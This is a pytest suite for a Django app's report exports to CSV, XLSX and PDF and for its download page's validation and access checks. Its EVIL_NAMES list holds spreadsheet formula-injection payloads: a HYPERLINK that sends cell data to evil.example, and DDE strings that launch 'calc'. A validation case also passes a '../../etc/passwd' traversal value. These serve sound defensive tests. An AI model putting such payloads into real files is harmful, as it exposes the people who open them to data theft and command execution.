"""Reports as files: CSV, XLSX and PDF equal the report's tables; the download page checks
every parameter and every role; no cell is ever run as a formula."""

import datetime
from decimal import Decimal

import pytest
import time_machine
from django.utils import translation

from dashboard.exports import report_csv, report_file_name, report_pdf, report_xlsx
from dashboard.forms import ReportDownloadForm
from dashboard.periods import MONTH, YEAR, Period
from dashboard.reports import (
    DATE,
    DURATION,
    MONEY,
    NUMBER,
    TEXT,
    Column,
    Report,
    ReportFilters,
    ReportTable,
)
from dashboard.reports import MONTH as MONTH_KIND
from dashboard.selectors.reports import report_build
from skypemgr.exports import spreadsheet_safe
from tests.dashboard.support import (
    busy_month,
    csv_rows,
    money,
    pdf_strings,
    url,
    xlsx_sheets,
    xlsx_workbook,
)
from tests.factories import MemberFactory, MemberListFactory, OrganizationFactory

EVIL_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.fixture
def report(org):
    """A report with every kind of column, a totals line and a note, as report_build makes
    them (raw values in the rows)."""
    built = Report(
        organization=org,
        period=Period(MONTH, datetime.date(2026, 11, 1)),
        filters=ReportFilters(),
        title="Monthly report",
        generated_at=datetime.datetime(2026, 12, 1, 5, 30, tzinfo=datetime.UTC),
        currency="EUR",
    )
    built.add(
        ReportTable(
            key="summary",
            title="Summary",
            columns=[Column("line", "Line"), Column("total", "Total", MONEY)],
            rows=[["Calls", Decimal("12.3456")], ["SMS", Decimal("0.1500")]],
            totals=[None, Decimal("12.4956")],
        )
    )
    built.add(
        ReportTable(
            key="by_member",
            title="By member",
            columns=[
                Column("member", "Member", TEXT),
                Column("calls", "Calls", NUMBER),
                Column("seconds", "Time on calls", DURATION),
                Column("spend", "Spend", MONEY),
            ],
            rows=[
                ["Alice Martin", 12, 3725, Decimal("10.5")],
                ["Zoë Ångström — 東京", 3, 59, Decimal("1.8456")],
                [EVIL_NAMES[0], 0, 0, Decimal("0")],
            ],
            totals=["", 15, 3784, Decimal("12.3456")],
            note="Members who spent nothing are left out.",
        )
    )
    built.add(
        ReportTable(
            key="per_day",
            title="Per day",
            columns=[Column("day", "Day", DATE), Column("spend", "Spend", MONEY)],
            rows=[
                [datetime.date(2026, 11, 3), Decimal("4.99")],
                [datetime.date(2026, 11, 4), None],
            ],
            totals=None,
        )
    )
    built.add(
        ReportTable(
            key="per_month",
            title="Per month",
            columns=[Column("month", "Month", MONTH_KIND), Column("spend", "Spend", MONEY)],
            rows=[[datetime.date(2026, 11, 1), Decimal("12.3456")]],
        )
    )
    return built


# --- CSV -------------------------------------------------------------------------------------


def test_a_csv_holds_one_table_its_rows_and_its_totals(report):
    rows = csv_rows(report_csv(report, "by_member"))

    assert rows[0] == ["Member", "Calls", "Time on calls", "Spend"]
    assert rows[1] == ["Alice Martin", "12", "1:02:05", "10.50"]
    assert rows[2] == ["Zoë Ångström — 東京", "3", "0:00:59", "1.85"]
    assert rows[4] == ["Total", "15", "1:03:04", "12.35"]
    assert len(rows) == 1 + len(report.tables["by_member"].rows) + 1


def test_csv_values_equal_the_table(report):
    """Every money cell is the table's value with the currency's decimals; every count the
    table's count."""
    table = report.tables["by_member"]
    rows = csv_rows(report_csv(report, "by_member"))[1:]
    for written, row in zip(rows, [*table.rows, table.totals], strict=True):
        assert Decimal(written[3]) == row[3].quantize(Decimal("0.01"))
        assert int(written[1]) == row[1]
        hours, minutes, seconds = (int(part) for part in written[2].split(":"))
        assert hours * 3600 + minutes * 60 + seconds == row[2]


def test_dates_months_and_empty_cells_in_csv(report):
    assert csv_rows(report_csv(report, "per_day")) == [
        ["Day", "Spend"],
        ["11/03/2026", "4.99"],
        ["11/04/2026", ""],
    ]
    assert csv_rows(report_csv(report, "per_month"))[1] == ["November 2026", "12.35"]


def test_a_csv_in_french_uses_semicolons_and_decimal_commas(report):
    with translation.override("fr"):
        rows = csv_rows(report_csv(report, "by_member"), delimiter=";")
        month = csv_rows(report_csv(report, "per_month"), delimiter=";")

    assert rows[1] == ["Alice Martin", "12", "1:02:05", "10,50"]
    assert month[1] == ["novembre 2026", "12,35"]


def test_yen_has_no_decimals(report, org):
    report.currency = "JPY"
    assert csv_rows(report_csv(report, "summary"))[1] == ["Calls", "12"]


def test_a_missing_table_is_a_key_error(report):
    with pytest.raises(KeyError):
        report_csv(report, "by_planet")


@pytest.mark.parametrize("name", EVIL_NAMES)
def test_no_csv_or_xlsx_cell_is_run_as_a_formula(report, name):
    report.tables["by_member"].rows[0][0] = name
    report.tables["by_member"].columns[0] = Column("member", name, TEXT)

    rows = csv_rows(report_csv(report, "by_member"))
    assert rows[0][0] == "'" + name
    assert rows[1][0] == "'" + name

    workbook = xlsx_workbook(report_xlsx(report))
    sheet = workbook["By member"]
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        assert cell.value == "'" + name


def test_a_negative_amount_stays_a_number(report):
    report.tables["summary"].rows[1][1] = Decimal("-3.5")
    assert csv_rows(report_csv(report, "summary"))[2] == ["SMS", "-3.50"]


# --- XLSX ------------------------------------------------------------------------------------


def test_the_workbook_says_what_it_is_then_has_a_sheet_per_table(report, org):
    sheets = xlsx_sheets(report_xlsx(report))

    assert list(sheets) == ["Report", "Summary", "By member", "Per day", "Per month"]
    about = dict((row[0], row[1]) for row in sheets["Report"] if row and len(row) > 1)
    assert about["Company"] == "Acme SARL"
    assert about["Period"] == "November 2026"
    assert about["Filters"] == "None: every member, every category"
    assert about["Currency"] == "EUR"
    # 05:30 UTC is 06:30 in Paris.
    assert about["Generated"] == "Dec. 1, 2026, 6:30 a.m. (Europe/Paris)"


def test_xlsx_cells_are_numbers_equal_to_the_table(report):
    workbook = xlsx_workbook(report_xlsx(report))
    for table in report.tables.values():
        sheet = workbook[table.title]
        written = [list(row) for row in sheet.iter_rows(values_only=True)]
        assert written[0] == [column.label for column in table.columns]
        expected = [*table.rows, *([table.totals] if table.totals else [])]
        body = written[1 : 1 + len(expected)]
        assert len(body) == len(expected)
        for cells, row in zip(body, expected, strict=True):
            for column, cell, value in zip(table.columns, cells, row, strict=True):
                if value in (None, ""):
                    assert cell in (None, "Total")
                elif column.kind == MONEY:
                    assert isinstance(cell, int | float)
                    assert money(cell) == value.quantize(Decimal("0.01"))
                elif column.kind == NUMBER:
                    assert cell == value
                elif column.kind == DURATION:
                    assert round(cell.total_seconds()) == value
                elif column.kind in (DATE, MONTH_KIND):
                    assert cell.date() == value
                else:
                    assert cell == spreadsheet_safe(value)
    by_member = workbook["By member"]
    assert by_member["D2"].number_format == "#,##0.00"
    assert by_member["C2"].number_format == "[h]:mm:ss"
    assert by_member.cell(row=5, column=1).value == "Total"
    assert by_member.cell(row=7, column=1).value == "Members who spent nothing are left out."


def test_sheet_titles_are_what_excel_accepts(report):
    report.tables["per_day"].title = "Spend / day: [all] members * every category?"
    report.tables["per_month"].title = "Spend / day: [all] members * every category?"
    titles = list(xlsx_sheets(report_xlsx(report)))
    assert titles[3] == "Spend   day   all  members   ev"
    assert titles[4] == "Spend   day   all  members  (2)"
    assert len(set(titles)) == len(titles)
    assert all(len(title) <= 31 and not set(title) & set("[]:*?/\\") for title in titles)


# --- PDF -------------------------------------------------------------------------------------


def test_the_pdf_shows_the_company_the_period_each_table_and_its_totals(report):
    content = report_pdf(report)

    assert content.startswith(b"%PDF")
    text = pdf_strings(content)
    assert "Acme SARL" in text
    assert "Monthly report - November 2026" in text
    assert {"Summary", "By member", "Per day", "Per month"} <= set(text)
    assert "€12.50" in text, "the summary's total, with the currency's decimals"
    assert "Total" in text
    assert "1:03:04" in text, "the members' total time"
    assert "€12.35" in text, "the members' total spend"
    assert "Members who spent nothing are left out." in text
    assert "Page 1 of " in text
    assert "Dec. 1, 2026, 6:30 a.m. (Europe/Paris)" in text


def test_the_pdf_folds_other_alphabets_and_cuts_long_names(report):
    report.tables["by_member"].rows[0][0] = "Zoë " + "Longname" * 40

    text = pdf_strings(report_pdf(report))

    assert "Zoë Ångström — ??" in text, "as receipts do: what the core fonts lack becomes ?"
    [cut] = [string for string in text if string.startswith("Zoë Longname")]
    assert cut.endswith("…")
    assert len(cut) < 100


def test_big_figures_and_long_heading_words_are_never_cut(report):
    table = report.tables["by_member"]
    table.columns[1] = Column("calls", "Appels, SMS ou prélèvements", NUMBER)
    table.rows = [["Alice Martin", 1_052_702_123, 153_989_348, Decimal("126017.55")]]
    table.totals = ["", 1_052_702_123, 153_989_348, Decimal("9876543210.98")]

    text = pdf_strings(report_pdf(report))

    assert "prélèvements" in text, "the heading's longest word on one line"
    assert "42774:49:08" in text, "over ten thousand hours, whole"
    assert "1,052,702,123" in text
    assert "€9,876,543,210.98" in text
    assert not [string for string in text if string.endswith("…")]


def test_a_long_table_goes_over_pages_with_its_heading_again(report):
    table = report.tables["by_member"]
    table.rows = [[f"Member {n}", n, n * 60, Decimal(n)] for n in range(120)]

    text = pdf_strings(report_pdf(report))

    assert text.count("Spend") >= 3, "the heading again on each page"
    assert "Page 3 of " in text
    assert "Member 119" in text


def test_the_pdf_in_french(report):
    with translation.override("fr"):
        text = pdf_strings(report_pdf(report))
    assert "12,50 €" in text
    assert "Page 1 sur " in text or "Page 1 of " in text


def test_file_names(report):
    assert report_file_name(report, file_format="pdf") == "skypemgr-acme-sarl-2026-11.pdf"
    assert (
        report_file_name(report, file_format="csv", table_key="by_member")
        == "skypemgr-acme-sarl-2026-11-by_member.csv"
    )
    report.period = Period(YEAR, datetime.date(2026, 1, 1))
    assert report_file_name(report, file_format="xlsx") == "skypemgr-acme-sarl-2026.xlsx"


# --- The download page -----------------------------------------------------------------------


@pytest.fixture
def november(org, employee, finance):
    """November 2026 with calls and messages, as the product records them."""
    when = datetime.datetime(2026, 11, 12, 10, 0, tzinfo=datetime.UTC)
    with time_machine.travel(when + datetime.timedelta(hours=1), tick=False):
        busy_month(org, [employee, finance], when=when)
    return Period(MONTH, datetime.date(2026, 11, 1))


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "pdf"])
def test_finance_downloads_the_report_as_the_page_builds_it(
    org, finance, login, november, file_format
):
    response = login(finance).get(
        url(org, "report-download"), {"month": "2026-11", "format": file_format}
    )

    assert response.status_code == 200
    name = "skypemgr-acme-sarl-2026-11" + ("-summary" if file_format == "csv" else "")
    assert response["Content-Disposition"] == f'attachment; filename="{name}.{file_format}"'
    assert response["Cache-Control"] == "private, no-store"
    built = report_build(organization=org, period=november)
    if file_format == "csv":
        summary = built.tables["summary"]
        assert csv_rows(response.content)[0] == [column.label for column in summary.columns]
        assert len(csv_rows(response.content)) == 1 + len(summary.rows) + bool(summary.totals)
    elif file_format == "xlsx":
        sheets = xlsx_sheets(response.content)
        assert len(sheets) == 1 + len(built.tables)
        for table, rows in zip(built.tables.values(), list(sheets.values())[1:], strict=True):
            assert rows[0] == [column.label for column in table.columns]
    else:
        assert response["Content-Type"] == "application/pdf"
        text = pdf_strings(response.content)
        assert "Acme SARL" in text
        assert all(table.title in text for table in built.tables.values())


def _csv_expected(column: Column, value) -> str:
    """A CSV cell as an English reader expects it (the oracle for real reports)."""
    if value is None or value == "":
        return ""
    if isinstance(value, str):
        return spreadsheet_safe(value)
    if column.kind == MONEY:
        return f"{Decimal(value).quantize(Decimal('0.01')):.2f}"
    if column.kind == DURATION:
        seconds = int(value)
        return f"{seconds // 3600}:{seconds % 3600 // 60:02d}:{seconds % 60:02d}"
    if column.kind == DATE:
        return value.strftime("%m/%d/%Y")
    if column.kind == MONTH_KIND:
        return value.strftime("%B %Y")
    return str(value)


def _xlsx_matches(column: Column, cell, value) -> bool:
    if value is None or value == "":
        return cell is None
    if isinstance(value, str):
        return cell == spreadsheet_safe(value)
    if column.kind == MONEY:
        return money(cell) == Decimal(value).quantize(Decimal("0.01"))
    if column.kind == DURATION:
        return round(cell.total_seconds()) == value
    if column.kind in (DATE, MONTH_KIND):
        return cell.date() == value
    return cell == value


@pytest.mark.parametrize(
    ("query", "period"),
    [
        ({"month": "2026-11"}, Period(MONTH, datetime.date(2026, 11, 1))),
        ({"report": "year", "year": "2026"}, Period(YEAR, datetime.date(2026, 1, 1))),
    ],
)
def test_the_files_of_a_real_report_equal_its_tables(org, owner, login, november, query, period):
    """Every table report_build makes for a busy month and its year: each CSV and each sheet
    of the workbook holds the table's labels, rows and totals, value for value."""
    client = login(owner)
    built = report_build(organization=org, period=period)
    assert {"summary", "by_member", "by_category"} <= set(built.tables)
    for key, table in built.tables.items():
        response = client.get(url(org, "report-download"), {**query, "format": "csv", "table": key})
        rows = csv_rows(response.content)
        expected = [*table.rows, *([table.totals] if table.totals is not None else [])]
        assert rows[0] == [str(column.label) for column in table.columns], key
        assert rows[1:] == [
            [_csv_expected(column, value) for column, value in zip(table.columns, row, strict=True)]
            for row in expected
        ], key
    workbook = xlsx_workbook(
        client.get(url(org, "report-download"), {**query, "format": "xlsx"}).content
    )
    for table, sheet in zip(built.tables.values(), workbook.worksheets[1:], strict=True):
        written = [list(row) for row in sheet.iter_rows(values_only=True)]
        expected = [*table.rows, *([table.totals] if table.totals is not None else [])]
        assert written[0] == [str(column.label) for column in table.columns]
        for cells, row in zip(written[1 : 1 + len(expected)], expected, strict=True):
            for column, cell, value in zip(table.columns, cells, row, strict=True):
                assert _xlsx_matches(column, cell, value), (table.key, column.key, cell, value)


def test_every_table_downloads_as_csv_and_an_annual_report_too(org, owner, login, november):
    client = login(owner)
    built = report_build(organization=org, period=Period(YEAR, datetime.date(2026, 1, 1)))
    for key in built.tables:
        response = client.get(
            url(org, "report-download"),
            {"report": "year", "year": "2026", "format": "csv", "table": key},
        )
        assert response.status_code == 200
        assert f'filename="skypemgr-acme-sarl-2026-{key}.csv"' in response["Content-Disposition"]


def test_filters_reach_the_report(org, finance, employee, login, november):
    team = MemberListFactory(organization=org, name="Sales")
    employee.department = "Ventes"
    employee.save()
    response = login(finance).get(
        url(org, "report-download"),
        {
            "month": "2026-11",
            "format": "xlsx",
            "list": team.pk,
            "department": "Ventes",
            "member": employee.pk,
            "category": "call:FR",
        },
    )

    assert response.status_code == 200
    about = {row[0]: row[1] for row in xlsx_sheets(response.content)["Report"] if row[0]}
    assert about["Filters"] == (
        f"List: Sales; Department: Ventes; Member: {employee}; Category: Calls to France"
    )


@pytest.mark.parametrize(
    ("parameters", "message"),
    [
        ({"month": "2026-13"}, "Choose a month as YYYY-MM, such as 2026-11."),
        ({"month": "abcd"}, "Choose a month as YYYY-MM, such as 2026-11."),
        ({"month": "1999-12"}, "Choose a month as YYYY-MM, such as 2026-11."),
        ({"report": "year", "year": "99999"}, "at most 4 characters"),
        ({"report": "year", "year": "abcd"}, "Choose a year such as 2026."),
        ({"report": "year", "year": "1999"}, "Choose a year such as 2026."),
        ({"report": "decade"}, "Choose a monthly or an annual report."),
        ({"format": "docx"}, "Choose PDF, Excel (XLSX) or CSV."),
        ({"format": ""}, "Choose PDF, Excel (XLSX) or CSV."),
        ({"format": "csv", "table": "../../etc/passwd"}, "This report has no such table."),
        ({"format": "csv", "table": "by_planet"}, "This report has no table “by_planet”."),
        ({"month": "2026-1\x001"}, "Null characters are not allowed."),
        ({"department": "a\x00b"}, "Select a valid choice."),
        ({"department": "D" * 101}, "Select a valid choice."),
        ({"list": "🙂"}, "Select a valid choice."),
        ({"list": "9" * 40}, "Select a valid choice."),
        ({"member": "9" * 40}, "This member was not found."),
        ({"member_q": "x" * 10_000}, "Type at most 100 characters."),
        ({"category": "voip"}, "Select a valid choice."),
        ({"category": "🙂" * 30}, "Select a valid choice."),
    ],
)
def test_odd_parameters_answer_400_saying_what_to_change(org, finance, login, parameters, message):
    query = {"format": "pdf", **parameters}

    response = login(finance).get(url(org, "report-download"), query)

    assert response.status_code == 400
    page = response.content.decode()
    assert "This report cannot be downloaded" in page
    assert message.replace("“", "&ldquo;").replace("”", "&rdquo;") in page or message in page


def test_another_organizations_list_and_member_are_not_found(
    org, finance, other_org, outsider, login
):
    their_list = MemberListFactory(organization=other_org)
    client = login(finance)
    for parameters in ({"list": their_list.pk}, {"member": outsider.pk}):
        response = client.get(url(org, "report-download"), {"format": "pdf", **parameters})
        assert response.status_code == 400


def test_a_former_member_is_a_valid_filter(org, finance, login):
    former = MemberFactory(organization=org, status="removed")
    response = login(finance).get(
        url(org, "report-download"), {"format": "pdf", "member": former.pk}
    )
    assert response.status_code == 200


def test_employees_cannot_download_reports_and_outsiders_do_not_see_them(
    org, employee, outsider, login
):
    assert login(employee).get(url(org, "report-download"), {"format": "pdf"}).status_code == 403
    assert login(outsider).get(url(org, "report-download"), {"format": "pdf"}).status_code == 404


def test_a_download_reads_a_bounded_number_of_queries(
    org, finance, login, november, django_assert_max_num_queries
):
    client = login(finance)
    with django_assert_max_num_queries(40):
        response = client.get(url(org, "report-download"), {"month": "2026-11", "format": "xlsx"})
    assert response.status_code == 200


# --- The download form ----------------------------------------------------------------------


def test_the_download_form_reads_the_kind_of_report_from_the_address(db):
    tokyo = OrganizationFactory(time_zone="Asia/Tokyo")
    # 20:00 UTC on October 31 is already November 1 in Tokyo.
    with time_machine.travel(datetime.datetime(2026, 10, 31, 20, 0, tzinfo=datetime.UTC)):
        monthly = ReportDownloadForm({"format": "pdf"}, organization=tokyo)
        annual = ReportDownloadForm({"format": "pdf", "report": "year"}, organization=tokyo)
        assert monthly.is_valid()
        assert annual.is_valid()
        assert monthly.period() == Period(MONTH, datetime.date(2026, 11, 1))
        assert annual.period() == Period(YEAR, datetime.date(2026, 1, 1))
        assert monthly.filters() == ReportFilters()
